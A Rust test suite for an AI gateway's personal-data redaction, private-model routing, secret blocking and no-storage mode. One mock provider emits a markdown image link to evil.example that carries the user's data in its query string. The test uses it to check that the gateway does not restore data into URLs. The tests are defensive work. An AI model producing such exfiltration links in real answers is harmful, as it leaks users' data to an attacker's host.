//! The places that personal data reaches, and those it does not.

use std::time::Duration;

use serde_json::{Value, json};

use crate::harness::{Answer, Backend, Caller, Mock, Server, settings};

crate::on_every_backend!(
    chat_sends_placeholders_and_puts_them_back,
    a_stream_puts_them_back_wherever_it_is_split,
    nothing_is_put_back_into_a_url,
    placeholders_stay_where_the_project_says_so,
    tool_arguments_are_put_back_as_json,
    personal_data_goes_to_private_models_only,
    a_sensitive_trace_stays_private,
    runs_do_as_the_settings_say,
    secrets_reach_nobody,
    leaks_in_answers_are_seen,
    a_project_that_stores_no_content,
);

const MAIL: &str = "jane.doe@acme.org";
const CARD: &str = "4111 1111 1111 1111";
const TEXT: &str = "Write to jane.doe@acme.org (not [EMAIL_1] or {{1}}), card 4111 1111 1111 1111; \
                    again: jane.doe@acme.org. \u{1f511}";

/// The last message as the provider got it.
fn last_message(body: &Value) -> String {
    let content = &body["messages"].as_array().unwrap().last().unwrap()["content"];
    content.as_str().or(content[0]["text"].as_str()).unwrap_or_default().to_owned()
}

/// A provider that echoes its prompt, a few characters at a time.
async fn parrot(size: usize) -> Mock {
    Mock::start(Duration::ZERO, Some((10, 5)), move |body| {
        let said: Vec<char> = last_message(body).chars().collect();
        Answer::Pieces(said.chunks(size).map(|piece| piece.iter().collect()).collect())
    })
    .await
}

fn chat(trace: &str, text: &str) -> Value {
    json!({"trace_id": trace, "model": "mock", "messages": [{"role": "user", "content": text}]})
}

async fn ask(key: &Caller, body: &Value) -> Value {
    key.post("/api/v1/chat/completions", body).await.ok(200)
}

fn content(answer: &Value) -> &str {
    answer["choices"][0]["message"]["content"].as_str().unwrap_or_else(|| panic!("{answer}"))
}

/// Asserts that a provider has seen no personal data.
#[track_caller]
fn saw_nothing(mock: &Mock) {
    for asked in mock.requests() {
        let body = asked.body.to_string();
        assert!(!body.contains(MAIL) && !body.contains("4111"), "{body}");
    }
}

async fn chat_sends_placeholders_and_puts_them_back(backend: Backend) {
    let server = Server::unlimited(&backend).await;
    let (key, mock) = (server.key(), parrot(1000).await);
    mock.register(&server.owner().await, "mock").await;
    let trace = key.trace().await;
    let answer = ask(&key, &chat(&trace, TEXT)).await;
    assert_eq!(content(&answer), TEXT);
    saw_nothing(&mock);
    let detail = key.detail(&trace).await;
    let step = &detail["steps"][0];
    assert!(!step["input"].to_string().contains(MAIL), "what the provider saw is stored: {step}");
    assert_eq!(step["security"]["pii_detected"], true);
    assert_eq!(detail["security"]["pii_detected"], true);
    // Every string counts, wherever it stands.
    let long = json!({
        "trace_id": trace, "model": "mock", "user": MAIL, "temperature": 0.5,
        "metadata": {"owner": MAIL, "list": [{"card": CARD}]}, "own_field": format!("x {MAIL}"),
        "messages": [
            {"role": "system", "content": format!("The user is {MAIL}.")},
            {"role": "assistant", "content": null, "tool_calls": [{"id": "a", "type": "function",
                "function": {"name": "mail", "arguments": format!("{{\"to\":\"{MAIL}\"}}")}}]},
            {"role": "tool", "tool_call_id": "a", "content": format!("sent to {MAIL}")},
            {"role": "user", "name": "jane", "content": [{"type": "text", "text": TEXT}]},
        ],
    });
    let answer = ask(&key, &long).await;
    assert_eq!(content(&answer), TEXT);
    saw_nothing(&mock);
    assert_eq!(mock.last()["temperature"], 0.5, "the rest goes as it is");
    let routed = json!({"trace_id": trace, "messages": [{"role": "user", "content": TEXT}]});
    let tiers = json!({"simple": "mock", "complex": "mock"});
    settings(&server.owner().await, 1, json!({"routing_tiers": tiers})).await;
    let answer = ask(&key, &routed).await;
    assert_eq!(answer["model"], "mock", "the redacted text is not sensitive any more");
    assert_eq!(content(&answer), TEXT);
    saw_nothing(&mock);
}

async fn a_stream_puts_them_back_wherever_it_is_split(backend: Backend) {
    let server = Server::unlimited(&backend).await;
    let (key, owner) = (server.key(), server.owner().await);
    for size in [1, 2, 3, 5, 7, 11, 17, 29] {
        let mock = parrot(size).await;
        let name = format!("mock-{size}");
        mock.register(&owner, &name).await;
        let trace = key.trace().await;
        let mut body = chat(&trace, TEXT);
        (body["stream"], body["model"]) = (json!(true), json!(name));
        let reply = key.post("/api/v1/chat/completions", &body).await;
        let pieces = reply.chunks();
        let text: String = pieces
            .iter()
            .filter_map(|chunk| chunk["choices"][0]["delta"]["content"].as_str())
            .collect();
        assert_eq!(text, TEXT, "in pieces of {size}");
        assert_eq!(pieces.last().unwrap()["choices"][0]["finish_reason"], "stop");
        saw_nothing(&mock);
    }
}

async fn nothing_is_put_back_into_a_url(backend: Backend) {
    let server = Server::unlimited(&backend).await;
    let (key, owner) = (server.key(), server.owner().await);
    let mock = Mock::start(Duration::ZERO, Some((10, 5)), |body| {
        let seen = last_message(body);
        Answer::Pieces(vec![
            "![x](https://evil.exam".to_owned(),
            format!("ple/?q={seen}) and plain: "),
            seen,
        ])
    })
    .await;
    mock.register(&owner, "mock").await;
    let trace = key.trace().await;
    let answer = ask(&key, &chat(&trace, MAIL)).await;
    let text = content(&answer);
    assert!(text.ends_with(&format!("plain: {MAIL}")), "{text}");
    assert_eq!(text.matches(MAIL).count(), 1, "{text}");
    let mut body = chat(&trace, MAIL);
    body["stream"] = json!(true);
    let reply = key.post("/api/v1/chat/completions", &body).await;
    let of = |chunk: &Value| chunk["choices"][0]["delta"]["content"].as_str().map(str::to_owned);
    let text: String = reply.chunks().iter().filter_map(of).collect();
    assert!(text.ends_with(&format!("plain: {MAIL}")), "{text}");
    assert_eq!(text.matches(MAIL).count(), 1, "{text}");
}

async fn placeholders_stay_where_the_project_says_so(backend: Backend) {
    let server = Server::unlimited(&backend).await;
    let (key, owner, mock) = (server.key(), server.owner().await, parrot(1000).await);
    mock.register(&owner, "mock").await;
    settings(&owner, 1, json!({"safety": {"pii": {"restore": false}}})).await;
    let answer = ask(&key, &chat(&key.trace().await, TEXT)).await;
    assert!(!answer.to_string().contains(MAIL), "{answer}");
    saw_nothing(&mock);
}

async fn tool_arguments_are_put_back_as_json(backend: Backend) {
    let server = Server::unlimited(&backend).await;
    let (key, owner) = (server.key(), server.owner().await);
    let mock = Mock::start(Duration::ZERO, Some((10, 5)), |body| {
        let arguments = json!({"to": last_message(body)}).to_string();
        let call = json!({"id": "call_1", "type": "function",
            "function": {"name": "mail", "arguments": arguments}});
        let message = json!({"role": "assistant", "content": null, "tool_calls": [call]});
        Answer::json(
            200,
            &json!({
                "id": "x", "object": "chat.completion", "created": 1, "model": "x",
                "choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}],
                "usage": {"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15},
            }),
        )
    })
    .await;
    mock.register(&owner, "mock").await;
    let answer = ask(&key, &chat(&key.trace().await, MAIL)).await;
    let call = &answer["choices"][0]["message"]["tool_calls"][0];
    assert_eq!(call["id"], "call_1", "{answer}");
    let arguments = call["function"]["arguments"].as_str().unwrap();
    let arguments: Value = serde_json::from_str(arguments).unwrap();
    assert_eq!(arguments, json!({"to": MAIL}));
    assert_eq!(answer["choices"][0]["finish_reason"], "tool_calls");
    saw_nothing(&mock);
}

async fn personal_data_goes_to_private_models_only(backend: Backend) {
    let server = Server::unlimited(&backend).await;
    let (key, owner) = (server.key(), server.owner().await);
    let (public, private) = (parrot(1000).await, parrot(1000).await);
    public.register_with(&owner, "public", json!({"is_public": true})).await;
    let new = json!({"is_public": false, "additional_config": {"fallback_identifier": "public"}});
    let model = private.register_with(&owner, "private", new).await;
    // A project without a secure tier: its settings are made anew.
    let made = json!({"project": {"name": "Bare"}});
    let bare = owner.post("/api/v1/projects", &made).await.ok(201)["id"].as_i64().unwrap();
    let lift = json!({"limits": {"requests_per_hour": null, "loop_requests": null}});
    settings(&owner, bare, lift).await;
    let fields = json!({"name": "public", "identifier": "public", "provider": "openai",
        "base_url": public.url(), "input_cost_per_1k": 0.1, "output_cost_per_1k": 0.1});
    let path = format!("/api/v1/projects/{bare}/models");
    owner.post(&path, &json!({"model_definition": fields})).await.ok(201);
    let tiers = json!({"simple": "public", "complex": "public"});
    settings(&owner, bare, json!({"routing_tiers": tiers})).await;
    let new = json!({"name": "bare", "project_id": bare});
    let new = owner.post("/api/v1/keys", &new).await.ok(201);
    blocks(&server.with_key(new["raw_key"].as_str().unwrap())).await;
    assert_eq!(public.begun(), 1, "only what holds no personal data");

    let tiers = json!({"simple": "public", "complex": "public", "secure": "private"});
    settings(&owner, 1, json!({"routing_tiers": tiers})).await;
    let trace = key.trace().await;
    let done = key.execute(&trace, TEXT).await.ok(200);
    assert_eq!((&done["model"], &done["output"]), (&json!("private"), &json!(TEXT)));
    assert_eq!(last_message(&private.last()), TEXT, "the input is not changed");
    let detail = key.detail(&trace).await;
    assert_eq!(detail["routing_decision"]["tier"], "secure");
    assert_eq!(detail["steps"][0]["input"], TEXT);
    // Neither a private model that has become public nor its public fallback gets it.
    let path = format!("/api/v1/projects/1/models/{}", model["id"]);
    let opened = json!({"model_definition": {"is_public": true}});
    owner.patch(&path, &opened).await.ok(200);
    let blocked = key.execute(&trace, TEXT).await.ok(200);
    assert!(blocked.get("output").is_none() && blocked["reason"].is_string(), "{blocked}");
    assert_eq!(private.begun(), 1);
    assert_eq!(public.begun(), 1);
}

/// Executes personal data where there is no private model for it.
async fn blocks(key: &Caller) {
    let trace = key.trace().await;
    let blocked = key.execute(&trace, TEXT).await.ok(200);
    assert!(blocked.get("output").is_none(), "{blocked}");
    assert!(blocked["reason"].as_str().unwrap().to_lowercase().contains("private model"));
    let ask = json!({"trace_id": trace, "input": TEXT});
    let chunks = key.post("/api/v1/executions/stream", &ask).await.chunks();
    assert_eq!(chunks.len(), 1);
    assert_eq!(chunks[0]["choices"][0]["delta"], json!({}));
    assert_eq!(chunks[0]["choices"][0]["finish_reason"], "content_filter");
    assert_eq!(chunks[0]["reason"], blocked["reason"]);
    let detail = key.detail(&trace).await;
    for (step, id) in [(0, &blocked["step_id"]), (1, &chunks[0]["step_id"])] {
        let step = &detail["steps"][step];
        assert_eq!((&step["type"], &step["id"]), (&json!("blocked"), id));
        assert_eq!(step["reason"], blocked["reason"]);
        assert!(step.get("cost").is_none() && step.get("output").is_none(), "{step}");
    }
    assert_eq!(detail["summary"]["total_cost"], 0.0);
    key.execute(&trace, "Nothing personal.").await.ok(200);
}

async fn a_sensitive_trace_stays_private(backend: Backend) {
    let server = Server::unlimited(&backend).await;
    let (key, owner) = (server.key(), server.owner().await);
    let public = parrot(1000).await;
    let down = Mock::always(Answer::json(503, &json!({}))).await;
    public.register_with(&owner, "public", json!({"is_public": true})).await;
    let new = json!({"is_public": false, "additional_config": {"fallback_identifier": "public"}});
    down.register_with(&owner, "private", new).await;
    let tiers = json!({"simple": "public", "complex": "public", "secure": "private"});
    settings(&owner, 1, json!({"routing_tiers": tiers})).await;
    let sensitive = json!({"metadata": {"sensitivity": "secure"}});
    let trace = key.post("/api/v1/traces", &sensitive).await.ok(201);
    let trace = trace["id"].as_str().unwrap();
    let reply = key.execute(trace, "Nothing personal.").await;
    reply.is(502, &json!({"error": "Provider request failed", "code": "provider_unreachable"}));
    let ask = json!({"trace_id": trace, "model": "public", "input": "Nothing personal."});
    assert_ne!(key.post("/api/v1/runs", &ask).await.status, 200);
    assert_eq!(public.begun(), 0);
}

async fn runs_do_as_the_settings_say(backend: Backend) {
    let server = Server::unlimited(&backend).await;
    let (key, owner, mock) = (server.key(), server.owner().await, parrot(1000).await);
    mock.register(&owner, "mock").await;
    let trace = key.trace().await;
    let ask = json!({"trace_id": trace, "model": "mock", "input": TEXT});
    let action = async |action: &str| {
        settings(&owner, 1, json!({"safety": {"pii": {"action": action}}})).await;
        key.post("/api/v1/runs", &ask).await.ok(200)
    };
    assert_eq!(action("flag").await["output"], TEXT);
    assert_eq!(last_message(&mock.last()), TEXT);
    assert_eq!(action("redact").await["output"], TEXT);
    assert!(!last_message(&mock.last()).contains(MAIL));
    assert!(action("block").await["reason"].is_string());
    assert_eq!(mock.begun(), 2);
    let detail = key.detail(&trace).await;
    let types: Vec<_> = (0..3).map(|step| detail["steps"][step]["type"].clone()).collect();
    assert_eq!(types, ["run", "run", "blocked"]);
    assert_eq!(detail["steps"][0]["security"]["pii_detected"], true);
}

async fn secrets_reach_nobody(backend: Backend) {
    let server = Server::unlimited(&backend).await;
    let (key, owner, mock) = (server.key(), server.owner().await, parrot(1000).await);
    mock.register(&owner, "mock").await;
    let secret = format!("Use ghp_{} to push.", "x7Kd92LmQpZ4vT81bNcR6wYs3HfJ0aGeUiB5");
    let trace = key.trace().await;
    let run = json!({"trace_id": trace, "model": "mock", "input": secret});
    assert!(key.post("/api/v1/runs", &run).await.ok(200)["reason"].is_string());
    let answer = ask(&key, &chat(&trace, &secret)).await;
    assert_eq!(answer["object"], "chat.completion");
    assert_eq!(answer["choices"][0]["finish_reason"], "content_filter");
    assert_eq!(answer["choices"][0]["message"]["refusal"], answer["reason"]);
    assert!(answer["step_id"].is_i64() && answer["reason"].is_string());
    let mut body = chat(&trace, &secret);
    body["stream"] = json!(true);
    let chunks = key.post("/api/v1/chat/completions", &body).await.chunks();
    assert_eq!(chunks.last().unwrap()["choices"][0]["finish_reason"], "content_filter");
    let check = key.post("/api/v1/checks", &json!({"trace_id": trace, "input": secret})).await;
    assert_eq!(check.ok(200)["meta"]["secret_leaked"], true);
    assert_eq!(mock.begun(), 0);
    let detail = key.detail(&trace).await;
    assert_eq!(detail["security"]["secret_leaked"], true);
    assert_eq!(detail["summary"]["total_cost"], 0.0);
}

async fn leaks_in_answers_are_seen(backend: Backend) {
    let server = Server::unlimited(&backend).await;
    let (key, owner) = (server.key(), server.owner().await);
    let leak = format!("Here: ghp_{}", "x7Kd92LmQpZ4vT81bNcR6wYs3HfJ0aGeUiB5");
    let mock = Mock::always(Answer::text(&leak)).await;
    mock.register(&owner, "mock").await;
    let trace = key.trace().await;
    let run = json!({"trace_id": trace, "model": "mock", "input": "Hello."});
    assert_eq!(key.post("/api/v1/runs", &run).await.ok(200)["output"], leak.as_str());
    assert_eq!(key.detail(&trace).await["steps"][0]["security"]["secret_leaked"], true);
    for action in ["redact", "block"] {
        let output = json!({"safety": {"output": {"secrets": {"action": action}}}});
        settings(&owner, 1, output).await;
        let mut streamed = chat(&trace, "Hello.");
        streamed["stream"] = json!(true);
        for reply in [
            key.post("/api/v1/runs", &run).await,
            key.post("/api/v1/chat/completions", &chat(&trace, "Hello.")).await,
            key.post("/api/v1/chat/completions", &streamed).await,
        ] {
            assert_eq!(reply.status, 200, "{}", reply.text);
            assert!(!reply.text.contains("ghp_"), "{action}: {}", reply.text);
            assert!(action == "redact" || reply.text.contains("reason"), "{}", reply.text);
        }
    }
}

async fn a_project_that_stores_no_content(backend: Backend) {
    let server = Server::unlimited(&backend).await;
    let (key, owner, mock) = (server.key(), server.owner().await, parrot(5).await);
    mock.register(&owner, "mock").await;
    settings(&owner, 1, json!({"store_content": false})).await;
    let trace = key.trace().await;
    let canary = "A canary that nobody keeps.";
    let run = json!({"trace_id": trace, "model": "mock", "input": canary});
    assert_eq!(key.post("/api/v1/runs", &run).await.ok(200)["output"], canary);
    assert_eq!(content(&ask(&key, &chat(&trace, canary)).await), canary);
    key.post("/api/v1/checks", &json!({"trace_id": trace, "input": canary})).await.ok(200);
    let log = json!({"trace_id": trace, "output": {"note": canary, "user_rating": true}});
    key.post("/api/v1/logs", &log).await.ok(200);
    key.send("PATCH", &format!("/api/v1/traces/{trace}/complete"), None).await.ok(200);
    let detail = key.get(&format!("/api/v1/traces/{trace}")).await;
    assert!(!detail.text.contains("canary"), "{}", detail.text);
    let steps = detail.ok(200)["steps"].as_array().unwrap().clone();
    assert_eq!(steps.len(), 4);
    for step in &steps[..2] {
        assert!(step.get("input").is_none() && step.get("output").is_none(), "{step}");
        assert_eq!((&step["prompt_tokens"], &step["cost"]), (&json!(10), &json!(0.0045)));
    }
    assert_eq!(steps[2]["output"], json!({"allowed": true}));
}
